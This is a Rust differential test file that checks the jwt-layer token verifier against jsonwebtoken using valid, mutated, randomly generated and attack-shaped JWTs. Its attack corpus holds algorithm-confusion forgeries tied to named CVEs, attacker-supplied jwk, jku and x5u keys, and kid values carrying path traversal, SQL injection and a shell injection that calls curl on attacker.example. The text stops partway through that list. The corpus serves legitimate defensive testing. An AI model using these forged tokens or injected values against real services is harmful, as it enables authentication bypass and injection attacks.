//! Differential verdicts: jwt-layer against jsonwebtoken 12, the reference its verification
//! path no longer calls.
//!
//! For each of the 12 algorithms both verify (all but ES512, which jsonwebtoken lacks and
//! Wycheproof covers) one key is configured alike in both: the same JWK, algorithm, issuer,
//! audience and leeway, `exp` required, `nbf` checked, and `iss` and `aud` required in
//! jsonwebtoken too (jwt-layer requires them whenever an issuer and an audience are configured,
//! which its builder insists on). Both read the system clock (jsonwebtoken cannot be given
//! one), so every time claim is minted far from `exp + leeway` and `nbf - leeway`.
//!
//! Inputs: valid tokens; systematic mutations of valid tokens; proptest-made headers and claims
//! signed with the right key; the token shapes of the attack corpus (sent to every algorithm's
//! verifier).
//!
//! Verdict rule: where jsonwebtoken refuses, jwt-layer refuses; where it accepts and jwt-layer
//! refuses, the token falls in a category of deliberate extra strictness
//! (`tests/differential/categories.rs`, each a predicate on the token, never on an answer). The
//! reverse direction is explained only by the narrow limits of jsonwebtoken's typed parsing
//! listed there. Anything else fails the test and prints the token.

// Outside tests/it/: the fuzz workspace's differential target reads the same file.
#[path = "../differential/categories.rs"]
mod categories;
use crate::common;

use std::cell::RefCell;
use std::collections::BTreeMap;
use std::time::{Instant, SystemTime, UNIX_EPOCH};

use futures_util::FutureExt;
use jwt_layer::Algorithm;
use jwt_layer::testing::{TestIssuer, strip_signature, tamper};
use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use serde_json::{Map, Value, json};

use categories::{Alike, Input};
use common::{
    AUDIENCE, ISSUER, attacker_jwk, attacker_signed, b64, der_from_fixed, ed25519_s_plus_l,
    good_claims, issuer, non_canonical, public_key_bytes,
};

/// Below this many inputs the test fails, so it cannot shrink unnoticed.
const MIN_INPUTS: usize = 25_000;

/// The algorithms both libraries verify: jsonwebtoken has no ES512, which is held to
/// Wycheproof's vectors instead (`interop/wycheproof/tests/wycheproof.rs`). ES512 tokens are still
/// among the inputs (alg changes, the attack corpus), where both must refuse them.
fn compared() -> impl Iterator<Item = Algorithm> {
    Algorithm::ALL.into_iter().filter(|alg| jsonwebtoken::Algorithm::try_from(*alg).is_ok())
}

/// One algorithm's key, configured alike in both libraries.
struct Pair {
    alg: Algorithm,
    kid: String,
    alike: Alike,
}

impl Pair {
    fn new(alg: Algorithm) -> Pair {
        let kid = issuer().kid(alg);
        let jwk = issuer().jwk(alg);
        Pair { alg, kid, alike: Alike::new(alg, jwk, ISSUER, AUDIENCE) }
    }

    /// (jwt-layer accepts, jsonwebtoken accepts).
    fn verdicts(&self, token: &str) -> (bool, bool) {
        let Alike { layer, key, validation } = &self.alike;
        let layer = layer.verify(token).now_or_never().expect("static keys never wait");
        let reference = jsonwebtoken::decode::<Value>(token, key, validation);
        (layer.is_ok(), reference.is_ok())
    }
}

#[derive(Default)]
struct ClassCount {
    inputs: usize,
    accepted_by_both: usize,
    agreed: usize,
    diverged: usize,
}

#[derive(Default)]
struct Tally {
    classes: BTreeMap<&'static str, ClassCount>,
    categories: BTreeMap<(&'static str, &'static str), usize>,
    unexplained: Vec<String>,
}

impl Tally {
    fn check(&mut self, class: &'static str, pair: &Pair, token: &str) {
        let (layer, reference) = pair.verdicts(token);
        if std::env::var("DIFF_ALL").is_ok() {
            eprintln!("ALL {class} {} L{} R{}: {token}", pair.alg, layer, reference);
        }
        let count = self.classes.entry(class).or_default();
        count.inputs += 1;
        if layer == reference {
            count.agreed += 1;
            count.accepted_by_both += usize::from(layer);
            return;
        }
        count.diverged += 1;
        let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs_f64();
        let input = Input::new(token, &pair.kid, now);
        match categories::explain(layer, &input) {
            Some(category) => {
                if std::env::var("DIFF_DEBUG").is_ok() {
                    eprintln!("DBG {class} {} {} {}: {token}", pair.alg, category.name, layer);
                }
                let direction = if layer { "jsonwebtoken refuses" } else { "jwt-layer refuses" };
                *self.categories.entry((direction, category.name)).or_default() += 1;
            }
            None => self.unexplained.push(format!(
                "{class} / {}: jwt-layer {}, jsonwebtoken {}: {token}",
                pair.alg,
                verdict(layer),
                verdict(reference)
            )),
        }
    }
}

fn verdict(accepted: bool) -> &'static str {
    if accepted { "accepts" } else { "refuses" }
}

fn now() -> u64 {
    common::now()
}

fn claims_with(edit: impl FnOnce(&mut Map<String, Value>)) -> Value {
    let mut claims = good_claims();
    edit(claims.as_object_mut().unwrap());
    claims
}

fn header_of(alg: Algorithm) -> Value {
    json!({"alg": alg.as_str(), "typ": "JWT", "kid": issuer().kid(alg)})
}

/// A token over `header` and `claims` signed with `alg`'s test key.
fn signed(alg: Algorithm, header: &Value, claims: &Value) -> String {
    issuer().token().alg(alg).raw_header(&header.to_string()).claims(claims.clone()).sign()
}

fn replace_segment(token: &str, index: usize, segment: &str) -> String {
    let mut parts: Vec<&str> = token.split('.').collect();
    parts[index] = segment;
    parts.join(".")
}

fn segment(token: &str, index: usize) -> &str {
    token.split('.').nth(index).unwrap()
}

fn decode(segment: &str) -> Vec<u8> {
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(segment).unwrap()
}

/// `count` positions spread over `0..len`, the first and the last included.
fn sample_positions(len: usize, count: usize) -> Vec<usize> {
    let mut positions: Vec<usize> =
        (0..count).map(|i| i * (len - 1) / (count - 1).max(1)).collect();
    positions.dedup();
    positions
}

// ---------------------------------------------------------------------------------------------
// (a) Valid tokens.

fn valid_tokens(alg: Algorithm) -> Vec<String> {
    let now = now();
    let header = header_of(alg);
    let with_header = |edit: &dyn Fn(&mut Map<String, Value>)| {
        let mut header = header.clone();
        edit(header.as_object_mut().unwrap());
        signed(alg, &header, &good_claims())
    };
    let with_claims =
        |edit: &dyn Fn(&mut Map<String, Value>)| signed(alg, &header, &claims_with(|c| edit(c)));
    vec![
        signed(alg, &header, &good_claims()),
        signed(alg, &json!({"alg": alg.as_str()}), &good_claims()),
        with_header(&|h| {
            h.insert("typ".into(), json!("at+jwt"));
            h.insert("cty".into(), json!("JWT"));
            h.insert("x5t".into(), json!("dGh1bWI"));
            h.insert("b64".into(), json!(true));
        }),
        with_header(&|h| {
            h.insert("jku".into(), json!("https://attacker.example/jwks.json"));
            h.insert("x5c".into(), json!(["MIIB"]));
            h.insert("custom".into(), json!({"nested": [1, 2, {"deep": null}]}));
        }),
        with_header(&|h| {
            h.insert("jwk".into(), attacker_jwk());
        }),
        with_claims(&|c| {
            c.insert("aud".into(), json!(["other-api", AUDIENCE]));
        }),
        with_claims(&|c| {
            c.insert("nbf".into(), json!(now - 10));
        }),
        with_claims(&|c| {
            c.insert("nbf".into(), json!(now + 10));
        }),
        with_claims(&|c| {
            c.insert("exp".into(), json!(now as f64 + 600.5));
            c.insert("iat".into(), json!(now as f64 - 0.25));
        }),
        with_claims(&|c| {
            c.insert("exp".into(), json!(4_102_444_800u64));
        }),
        with_claims(&|c| {
            c.insert("jti".into(), json!("id-1"));
            c.insert("scp".into(), json!(["read", "write"]));
            c.insert("org".into(), json!({"roles": ["a", "b"], "é": "ü\u{1F600}"}));
        }),
        with_claims(&|c| {
            c.insert("blob".into(), json!("x".repeat(5_000)));
        }),
        issuer()
            .token()
            .alg(alg)
            .raw_header(&header.to_string())
            .raw_payload(&good_claims().to_string().replace("https://", r"https:\/\/"))
            .sign(),
        // The same claims in another member order, with whitespace.
        issuer()
            .token()
            .alg(alg)
            .raw_header(&format!(
                " {{ \"kid\" : \"{}\" , \"alg\" : \"{}\" }} ",
                issuer().kid(alg),
                alg.as_str()
            ))
            .raw_payload(&format!(
                "{{\n \"exp\": {}, \"aud\": \"{AUDIENCE}\",\n \"iss\": \"{ISSUER}\" }}\n",
                now + 600
            ))
            .sign(),
    ]
}

// ---------------------------------------------------------------------------------------------
// (b) Mutations of a valid token.

const BASE64URL: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// Every base64url character, and a few others, at sampled positions of each segment.
fn substitutions(token: &str, positions_per_segment: usize) -> Vec<String> {
    let extra = b".=+/ ~";
    let mut out = Vec::new();
    let mut start = 0;
    for part in token.split('.') {
        for position in sample_positions(part.len(), positions_per_segment) {
            let at = start + position;
            for &c in BASE64URL.iter().chain(extra) {
                if token.as_bytes()[at] != c {
                    let mut bytes = token.as_bytes().to_vec();
                    bytes[at] = c;
                    out.push(String::from_utf8(bytes).unwrap());
                }
            }
        }
        start += part.len() + 1;
    }
    out
}

/// Single-byte changes of the decoded header and claims JSON, re-signed with the right key, so
/// only parsing and claim checks can refuse them.
fn json_substitutions(alg: Algorithm, token: &str, positions: usize) -> Vec<String> {
    let chars = b"\"{}[],:0-1e.E \\ntu/";
    let header = decode(segment(token, 0));
    let payload = decode(segment(token, 1));
    let mut out = Vec::new();
    for which in 0..2 {
        let original = if which == 0 { &header } else { &payload };
        for position in sample_positions(original.len(), positions) {
            for &c in chars {
                if original[position] == c {
                    continue;
                }
                let mut json = original.clone();
                json[position] = c;
                let (h, p) = if which == 0 { (&json, &payload) } else { (&header, &json) };
                let input = format!("{}.{}", b64(h), b64(p));
                out.push(format!("{input}.{}", b64(issuer().sign(alg, input.as_bytes()))));
            }
        }
    }
    out
}

fn truncations(token: &str) -> Vec<String> {
    let len = token.len();
    let first = token.find('.').unwrap();
    let second = token.rfind('.').unwrap();
    let mut cuts = vec![0, 1, len / 4, len / 2, len - 2, len - 1];
    for dot in [first, second] {
        cuts.extend([dot - 1, dot, dot + 1]);
    }
    cuts.sort_unstable();
    cuts.dedup();
    let mut out: Vec<String> = cuts.iter().map(|&cut| token[..cut].to_owned()).collect();
    // And from the front.
    out.extend([first, first + 1, second + 1].map(|cut| token[cut..].to_owned()));
    out
}

fn mutations(alg: Algorithm, good: &[(Algorithm, String)]) -> Vec<String> {
    let now = now();
    let token = &good.iter().find(|(a, _)| *a == alg).unwrap().1;
    let header = header_of(alg);
    let claims = good_claims();
    let mut out = Vec::new();

    // Segment swaps, and segments from another algorithm's token.
    let [h, p, s] = [0, 1, 2].map(|i| segment(token, i));
    out.extend([
        format!("{p}.{h}.{s}"),
        format!("{h}.{s}.{p}"),
        format!("{h}.{p}.{h}"),
        format!("{h}.{p}"),
        format!("{h}.{p}.{s}.{s}"),
        format!("{h}.{p}.{s}."),
        format!("{h}..{s}"),
        format!(".{p}.{s}"),
        format!("{h}.{p}.{s}=="),
        strip_signature(token),
        tamper(token),
    ]);
    for (other, other_token) in good {
        if *other != alg {
            out.push(replace_segment(token, 2, segment(other_token, 2)));
            out.push(replace_segment(token, 0, segment(other_token, 0)));
        }
    }

    // alg changes: not re-signed, re-signed with this key, re-signed with the named key.
    let names = Algorithm::ALL.map(Algorithm::as_str);
    let odd = ["none", "None", "NONE", "nOnE", "", "hs256", "HS256 ", "ES521", "RS1"];
    for name in names.iter().chain(odd.iter()).filter(|n| **n != alg.as_str()) {
        let mut changed = header.clone();
        changed["alg"] = json!(name);
        let resigned = signed(alg, &changed, &claims);
        out.push(replace_segment(token, 0, segment(&resigned, 0)));
        out.push(resigned.clone());
        out.push(strip_signature(&resigned));
        if let Some(named) = Algorithm::from_name(name) {
            out.push(signed(named, &changed, &claims));
            let mut own_kid = changed.clone();
            own_kid["kid"] = json!(issuer().kid(named));
            out.push(signed(named, &own_kid, &claims));
        }
    }
    out.push(
        issuer()
            .token()
            .alg(alg)
            .raw_header(&json!({"kid": issuer().kid(alg)}).to_string())
            .claims(claims.clone())
            .sign(),
    );
    out.push(
        issuer()
            .token()
            .alg(alg)
            .raw_header(&json!({"alg": null}).to_string())
            .claims(claims.clone())
            .sign(),
    );
    out.push(
        issuer()
            .token()
            .alg(alg)
            .raw_header(&json!({"alg": [alg.as_str()]}).to_string())
            .claims(claims.clone())
            .sign(),
    );

    // kid changes.
    for kid in [json!("other"), json!(""), json!("k".repeat(3000)), json!(5), json!(null)] {
        let mut changed = header.clone();
        changed["kid"] = kid;
        out.push(signed(alg, &changed, &claims));
    }
    for other in Algorithm::ALL {
        let mut changed = header.clone();
        changed["kid"] = json!(issuer().kid(other));
        out.push(signed(alg, &changed, &claims));
    }

    // Wrong keys: the test kit's issuer has keys of its own for every algorithm.
    let stranger = TestIssuer::new(ISSUER);
    out.push(stranger.token().alg(alg).kid(issuer().kid(alg)).audience(AUDIENCE).sign());
    out.push(stranger.token().alg(alg).without_kid().audience(AUDIENCE).sign());

    // Claims: (name, new value), or the claim removed.
    let edits: Vec<(&str, Option<Value>)> = vec![
        ("exp", Some(json!(now - 3600))),
        ("exp", Some(json!(now - 1_000_000))),
        ("exp", Some(json!(0))),
        ("exp", Some(json!(-1))),
        ("exp", Some(json!(1e300))),
        ("exp", Some(json!(u64::MAX))),
        ("exp", Some(json!((now + 600).to_string()))),
        ("exp", Some(Value::Null)),
        ("exp", Some(json!([now + 600]))),
        ("exp", None),
        ("nbf", Some(json!(now + 3600))),
        ("nbf", Some(json!(-1))),
        ("nbf", Some(json!(1e300))),
        ("nbf", Some(json!("0"))),
        ("nbf", Some(Value::Null)),
        ("iat", Some(json!("yesterday"))),
        ("iat", Some(Value::Null)),
        ("iat", Some(json!(-5))),
        ("iss", Some(json!("https://other.test"))),
        ("iss", Some(json!(format!("{ISSUER}/")))),
        ("iss", Some(json!([ISSUER]))),
        ("iss", Some(json!(7))),
        ("iss", Some(Value::Null)),
        ("iss", None),
        ("aud", Some(json!("other-api"))),
        ("aud", Some(json!([]))),
        ("aud", Some(json!([AUDIENCE, 1]))),
        ("aud", Some(json!({"aud": AUDIENCE}))),
        ("aud", Some(Value::Null)),
        ("aud", None),
        ("sub", Some(json!(7))),
        ("sub", Some(Value::Null)),
        ("jti", Some(json!(["a"]))),
        ("scope", Some(json!(["read"]))),
        ("scp", Some(json!([1]))),
        ("cnf", Some(json!("jkt"))),
        ("cnf", Some(json!({"jkt": "0ZcOCORZNYy"}))),
        ("blob", Some(json!("x".repeat(9_000)))),
    ];
    for (name, value) in edits {
        let mut edited = claims.clone();
        match value {
            Some(value) => edited[name] = value,
            None => drop(edited.as_object_mut().unwrap().remove(name)),
        }
        out.push(signed(alg, &header, &edited));
    }
    let raw_payloads = [
        format!(r#"[{}, null, "u", "{ISSUER}", "{AUDIENCE}"]"#, now + 600),
        format!(r#"[{}, {}, "u", "{ISSUER}", "{AUDIENCE}"]"#, now + 600, now - 10),
        "[]".to_owned(),
        "null".to_owned(),
        format!(r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","exp":1,"exp":{}}}"#, now + 600),
        format!(r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","exp":{},"x":1,"x":2}}"#, now + 600),
        format!(r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","exp":{}}} "#, now + 600),
        format!(r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","exp":{}}}x"#, now + 600),
    ];
    for payload in &raw_payloads {
        out.push(
            issuer().token().alg(alg).raw_header(&header.to_string()).raw_payload(payload).sign(),
        );
    }

    // Header members.
    let kid = issuer().kid(alg);
    let alg_name = alg.as_str();
    for extra in [
        r#""crit":["exp"],"exp":1"#,
        r#""crit":[]"#,
        r#""b64":false,"crit":["b64"]"#,
        r#""b64":true,"crit":["b64"]"#,
        r#""b64":true,"crit":["b64","b64"]"#,
        r#""crit":null"#,
        r#""b64":false"#,
        r#""b64":"true""#,
        r#""b64":null"#,
        r#""cty":5"#,
        r#""x5u":{"u":1}"#,
        r#""x5c":"MIIB""#,
        r#""jwk":{}"#,
        r#""jwk":null"#,
        r#""typ":null"#,
        r#""typ":7"#,
        r#""kid":"other","kid":"KID""#,
        r#""alg":"none""#,
        r#""x":{"a":1,"a":2}"#,
    ] {
        let extra = extra.replace("KID", &kid);
        let header = format!(r#"{{"alg":"{alg_name}","kid":"{kid}",{extra}}}"#);
        out.push(issuer().token().alg(alg).raw_header(&header).claims(claims.clone()).sign());
    }
    out.push(issuer().token().alg(alg).raw_header(r#"["HS256"]"#).claims(claims.clone()).sign());
    out.push(
        issuer()
            .token()
            .alg(alg)
            .raw_header(&format!(r#"{{"alg":"{alg_name}"}}x"#))
            .claims(claims.clone())
            .sign(),
    );

    out.extend(truncations(token));
    out
}

// ---------------------------------------------------------------------------------------------
// (c) Random headers and claims, signed with the right key.

fn json_leaf() -> impl Strategy<Value = Value> {
    prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        any::<f64>().prop_filter("finite", |f| f.is_finite()).prop_map(Value::from),
        "[a-z\u{e9}\"\\\\/ ]{0,8}".prop_map(Value::from),
        Just(json!(ISSUER)),
        Just(json!(AUDIENCE)),
    ]
}

fn json_value() -> impl Strategy<Value = Value> {
    json_leaf().prop_recursive(3, 16, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
            prop::collection::btree_map("[a-z]{1,3}", inner, 0..4)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

/// A header or claim member: usually a string, the type most members have.
fn member_value() -> impl Strategy<Value = Value> {
    prop_oneof![3 => "[a-zA-Z0-9 ]{0,8}".prop_map(Value::from), 1 => json_value()]
}

/// A time claim: far from every limit, of the wrong type, or out of jsonwebtoken's range.
fn time_value(now: u64) -> impl Strategy<Value = Option<Value>> {
    let now = now as i64;
    prop_oneof![
        Just(None),
        (600i64..1_000_000).prop_map(move |d| Some(json!(now + d))),
        (600i64..1_000_000).prop_map(move |d| Some(json!(now - d))),
        (0i64..30).prop_map(move |d| Some(json!(now - d))),
        (600i64..100_000).prop_map(move |d| Some(json!((now + d) as f64 + 0.25))),
        json_leaf().prop_map(Some),
    ]
}

#[derive(Debug, Clone)]
struct RandomToken {
    alg: Algorithm,
    header: Map<String, Value>,
    claims: Map<String, Value>,
    /// Repeats one member at the front of the header (0) or the claims (1).
    duplicate: Option<(u8, prop::sample::Index)>,
}

fn random_token(now: u64) -> impl Strategy<Value = RandomToken> {
    let header_names = prop::sample::select(vec![
        "typ", "cty", "crit", "b64", "jwk", "x5c", "x5u", "enc", "x5t", "zz",
    ]);
    let claim_names =
        prop::sample::select(vec!["sub", "jti", "scope", "scp", "cnf", "iat", "azp", "zz", "name"]);
    let header = (
        prop::sample::select(compared().collect::<Vec<_>>()),
        prop_oneof![
            12 => Just(None),
            1 => Just(Some(json!("none"))),
            1 => json_leaf().prop_map(Some),
        ],
        prop_oneof![3 => Just(0u8), 4 => Just(1), 1 => Just(2), 1 => Just(3)],
        prop::collection::vec((header_names, member_value()), 0..3),
    );
    let claims = (
        prop_oneof![4 => Just(json!(ISSUER)), 1 => json_value()],
        prop_oneof![
            4 => Just(Some(json!(AUDIENCE))),
            1 => Just(Some(json!(["x", AUDIENCE]))),
            1 => Just(None),
            1 => json_value().prop_map(Some),
        ],
        prop_oneof![3 => (600u64..1_000_000).prop_map(move |d| Some(json!(now + d))), 1 => time_value(now)],
        time_value(now),
        prop::collection::vec((claim_names, member_value()), 0..4),
    );
    let duplicate = prop::option::weighted(0.15, (0u8..2, any::<prop::sample::Index>()));
    (header, claims, duplicate).prop_map(
        |(
            (alg, alg_override, kid, extra_header),
            (iss, aud, exp, nbf, extra_claims),
            duplicate,
        )| {
            let mut header = Map::new();
            header.insert("alg".into(), alg_override.unwrap_or_else(|| json!(alg.as_str())));
            match kid {
                0 => {}
                1 => drop(header.insert("kid".into(), json!(issuer().kid(alg)))),
                2 => drop(header.insert("kid".into(), json!("unknown"))),
                _ => drop(header.insert("kid".into(), Value::Null)),
            }
            header.extend(extra_header.into_iter().map(|(k, v)| (k.to_owned(), v)));
            let mut claims = Map::new();
            claims.insert("iss".into(), iss);
            if let Some(aud) = aud {
                claims.insert("aud".into(), aud);
            }
            if let Some(exp) = exp {
                claims.insert("exp".into(), exp);
            }
            if let Some(nbf) = nbf {
                claims.insert("nbf".into(), nbf);
            }
            claims.extend(extra_claims.into_iter().map(|(k, v)| (k.to_owned(), v)));
            RandomToken { alg, header, claims, duplicate }
        },
    )
}

impl RandomToken {
    fn text(&self) -> String {
        let object = |map: &Map<String, Value>, repeat: Option<&prop::sample::Index>| {
            let text = Value::Object(map.clone()).to_string();
            match repeat {
                Some(index) if !map.is_empty() => {
                    let (name, value) = map.iter().nth(index.index(map.len())).unwrap();
                    format!("{{{}:{value},{}", json!(name), &text[1..])
                }
                _ => text,
            }
        };
        let which = self.duplicate.as_ref().map(|(which, index)| (*which, index));
        let header = object(&self.header, which.filter(|w| w.0 == 0).map(|w| w.1));
        let claims = object(&self.claims, which.filter(|w| w.0 == 1).map(|w| w.1));
        issuer().token().alg(self.alg).raw_header(&header).raw_payload(&claims).sign()
    }
}

// ---------------------------------------------------------------------------------------------
// (d) The token shapes of the attack corpus (tests/it/attack_corpus.rs), minted the same way.

fn hs256_with(secret: &[u8], header: &str, claims: &Value) -> String {
    use aws_lc_rs::hmac;
    let input = format!("{}.{}", b64(header), b64(claims.to_string()));
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), input.as_bytes());
    format!("{input}.{}", b64(tag.as_ref()))
}

fn unsigned(header: &str, claims: &Value, signature: &str) -> String {
    format!("{}.{}.{}", b64(header), b64(claims.to_string()), signature)
}

/// A token with header `{alg, kid}` plus `extra`, signed with `alg`'s test key.
fn signed_with(alg: Algorithm, kid: &str, extra: Value, claims: &Value) -> String {
    let mut header = json!({"alg": alg.as_str(), "kid": kid});
    for (name, value) in extra.as_object().unwrap() {
        header[name] = value.clone();
    }
    signed(alg, &header, claims)
}

fn attack_corpus() -> Vec<(&'static str, String)> {
    use Algorithm::*;
    let now = now();
    let claims = good_claims();
    let good = |alg| signed(alg, &header_of(alg), &claims);
    let (rs256, hs256) = (good(RS256), good(HS256));
    let rsa_public_der = public_key_bytes(RS256);
    let p256_point = public_key_bytes(ES256);
    let ed25519_public = public_key_bytes(EdDSA);
    let with = |edit: &dyn Fn(&mut Map<String, Value>)| good_with(ES256, claims_with(|c| edit(c)));
    let raw_es256 = |payload: String| {
        issuer()
            .token()
            .alg(ES256)
            .raw_header(&format!(r#"{{"alg":"ES256","kid":"{}"}}"#, issuer().kid(Algorithm::ES256)))
            .raw_payload(&payload)
            .sign()
    };
    let mut t: Vec<(&'static str, String)> = vec![
        ("b64token_but_not_base64url_chars", "ab+c/d~e.e30.c2ln".into()),
        ("outside_b64token_charset", "eyJh$bGci.e30.c2ln".into()),
        ("quote_in_token", r#"eyJh"bGci.e30.c2ln"#.into()),
        (
            "over_the_8_kib_cap",
            format!("{}.{}.{}", "A".repeat(4000), "A".repeat(4000), "A".repeat(400)),
        ),
        ("unpublished_kid", signed_with(HS256, "secret-internal-kid-42", json!({}), &claims)),
        (
            "alg_none_with_a_signature",
            replace_segment(
                &hs256,
                0,
                &b64(format!(r#"{{"alg":"none","kid":"{}"}}"#, issuer().kid(Algorithm::HS256))),
            ),
        ),
        (
            "alg_empty_string",
            unsigned(
                &format!(r#"{{"alg":"","kid":"{}"}}"#, issuer().kid(Algorithm::HS256)),
                &claims,
                "",
            ),
        ),
        (
            "alg_missing",
            issuer()
                .token()
                .alg(HS256)
                .raw_header(&format!(r#"{{"kid":"{}"}}"#, issuer().kid(Algorithm::HS256)))
                .claims(claims.clone())
                .sign(),
        ),
        (
            "alg_lowercase",
            issuer()
                .token()
                .alg(HS256)
                .raw_header(&format!(
                    r#"{{"alg":"hs256","kid":"{}"}}"#,
                    issuer().kid(Algorithm::HS256)
                ))
                .claims(claims.clone())
                .sign(),
        ),
        (
            "hs256_with_rsa_public_key_cve_2016_10555",
            hs256_with(
                &rsa_public_der,
                &format!(r#"{{"alg":"HS256","kid":"{}"}}"#, issuer().kid(Algorithm::RS256)),
                &claims,
            ),
        ),
        (
            "hs256_with_rsa_public_key_no_kid",
            hs256_with(&rsa_public_der, r#"{"alg":"HS256"}"#, &claims),
        ),
        (
            "hs256_with_ec_public_key_cve_2022_29217",
            hs256_with(
                &p256_point,
                &format!(r#"{{"alg":"HS256","kid":"{}"}}"#, issuer().kid(Algorithm::ES256)),
                &claims,
            ),
        ),
        (
            "hs256_with_ed25519_public_key",
            hs256_with(
                &ed25519_public,
                &format!(r#"{{"alg":"HS256","kid":"{}"}}"#, issuer().kid(Algorithm::EdDSA)),
                &claims,
            ),
        ),
        (
            "oct_kid_with_rs256",
            signed_with(RS256, &issuer().kid(Algorithm::HS256), json!({}), &claims),
        ),
        (
            "oct_kid_with_es256",
            signed_with(ES256, &issuer().kid(Algorithm::HS256), json!({}), &claims),
        ),
        (
            "oct_kid_with_eddsa",
            signed_with(EdDSA, &issuer().kid(Algorithm::HS256), json!({}), &claims),
        ),
        (
            "rsa_kid_with_es256",
            signed_with(ES256, &issuer().kid(Algorithm::RS256), json!({}), &claims),
        ),
        (
            "p256_kid_with_es384",
            signed_with(ES384, &issuer().kid(Algorithm::ES256), json!({}), &claims),
        ),
        (
            "rs384_with_rsa_kid",
            signed_with(RS384, &issuer().kid(Algorithm::RS256), json!({}), &claims),
        ),
        (
            "ps256_with_rsa_kid",
            signed_with(PS256, &issuer().kid(Algorithm::RS256), json!({}), &claims),
        ),
        (
            "embedded_jwk_cve_2018_0114",
            attacker_signed(&json!({"alg":"EdDSA","jwk": attacker_jwk()}), &claims),
        ),
        (
            "embedded_jwk_with_its_kid",
            attacker_signed(
                &json!({"alg":"EdDSA","kid":"attacker","jwk": attacker_jwk()}),
                &claims,
            ),
        ),
        (
            "jku_attacker",
            attacker_signed(
                &json!({"alg":"EdDSA","kid":"attacker","jku":"http://127.0.0.1:1/jwks"}),
                &claims,
            ),
        ),
        (
            "jku_with_published_kid",
            attacker_signed(
                &json!({"alg":"EdDSA","kid":issuer().kid(Algorithm::EdDSA),"jku":"http://127.0.0.1:1/jwks"}),
                &claims,
            ),
        ),
        (
            "x5u_attacker",
            attacker_signed(
                &json!({"alg":"EdDSA","kid":"attacker","x5u":"http://127.0.0.1:1/cert"}),
                &claims,
            ),
        ),
        (
            "x5c_attacker",
            attacker_signed(&json!({"alg":"EdDSA","x5c":[attacker_jwk()["x"].clone()]}), &claims),
        ),
        (
            "crit",
            signed_with(
                HS256,
                &issuer().kid(Algorithm::HS256),
                json!({"crit":["exp"],"exp":1}),
                &claims,
            ),
        ),
        (
            "crit_empty",
            signed_with(HS256, &issuer().kid(Algorithm::HS256), json!({"crit":[]}), &claims),
        ),
        (
            "b64_false_with_crit",
            signed_with(
                HS256,
                &issuer().kid(Algorithm::HS256),
                json!({"b64":false,"crit":["b64"]}),
                &claims,
            ),
        ),
        (
            "b64_false_without_crit",
            signed_with(HS256, &issuer().kid(Algorithm::HS256), json!({"b64":false}), &claims),
        ),
        (
            "kid_path_traversal",
            signed_with(HS256, "../../../../../../dev/null", json!({}), &claims),
        ),
        ("kid_sql_injection", signed_with(HS256, "' UNION SELECT 'secret' --", json!({}), &claims)),
        (
            "kid_shell_injection",
            signed_with(HS256, "$(curl attacker.example)|id;`id`", json!({}), &claims),
        ),
        ("kid_url", signed_with(HS256, "https://attacker.example/jwks.json", json!({}), &claims)),
        ("kid_nul_byte", signed_with(HS256, "hmac\u{0}", json!({}), &claims)),
        ("kid_very_long", signed_with(HS256, &"k".repeat(3000), json!({}), &claims)),
        (
            "kid_not_a_string",
            issuer()
                .token()
                .alg(HS256)
                .raw_header(r#"{"alg":"HS256","kid":{"$ne":null}}"#)
                .claims(claims.clone())
                .sign(),
        ),
        (
            "typ_jwt",
            signed_with(ES256, &issuer().kid(Algorithm::ES256), json!({"typ":"JWT"}), &claims),
        ),
        (
            "typ_trailing_space",
            signed_with(ES256, &issuer().kid(Algorithm::ES256), json!({"typ":"at+jwt "}), &claims),
        ),
        (
            "typ_application_at_jwt",
            signed_with(
                ES256,
                &issuer().kid(Algorithm::ES256),
                json!({"typ":"Application/AT+JWT"}),
                &claims,
            ),
        ),
        (
            "duplicate_alg_then_none",
            issuer()
                .token()
                .alg(HS256)
                .raw_header(&format!(
                    r#"{{"alg":"HS256","kid":"{}","alg":"none"}}"#,
                    issuer().kid(Algorithm::HS256)
                ))
                .claims(claims.clone())
                .sign(),
        ),
        (
            "duplicate_alg_none_then_valid",
            issuer()
                .token()
                .alg(HS256)
                .raw_header(&format!(
                    r#"{{"alg":"none","kid":"{}","alg":"HS256"}}"#,
                    issuer().kid(Algorithm::HS256)
                ))
                .claims(claims.clone())
                .sign(),
        ),
        (
            "duplicate_kid",
            issuer()
                .token()
                .alg(HS256)
                .raw_header(&format!(
                    r#"{{"alg":"HS256","kid":"nope","kid":"{}"}}"#,
                    issuer().kid(Algorithm::HS256)
                ))
                .claims(claims.clone())
                .sign(),
        ),
        (
            "duplicate_nested_in_header",
            issuer()
                .token()
                .alg(HS256)
                .raw_header(&format!(
                    r#"{{"alg":"HS256","kid":"{}","x":{{"a":1,"a":2}}}}"#,
                    issuer().kid(Algorithm::HS256)
                ))
                .claims(claims.clone())
                .sign(),
        ),
        ("header_json_array", unsigned(r#"["HS256"]"#, &claims, "c2ln")),
        (
            "header_trailing_bytes",
            issuer()
                .token()
                .alg(HS256)
                .raw_header(&format!(
                    r#"{{"alg":"HS256","kid":"{}"}}x"#,
                    issuer().kid(Algorithm::HS256)
                ))
                .claims(claims.clone())
                .sign(),
        ),
        ("jwe_five_segments", "eyJhbGciOiJSU0EtT0FFUCJ9.a.b.c.d".into()),
        (
            "header_changed_after_signing",
            replace_segment(
                &hs256,
                0,
                &b64(format!(
                    r#"{{"alg":"HS256","kid":"{}","typ":"at+jwt"}}"#,
                    issuer().kid(Algorithm::HS256)
                )),
            ),
        ),
        (
            "claims_changed_after_signing",
            replace_segment(
                &rs256,
                1,
                &b64(claims_with(|c| drop(c.insert("scope".into(), json!("admin")))).to_string()),
            ),
        ),
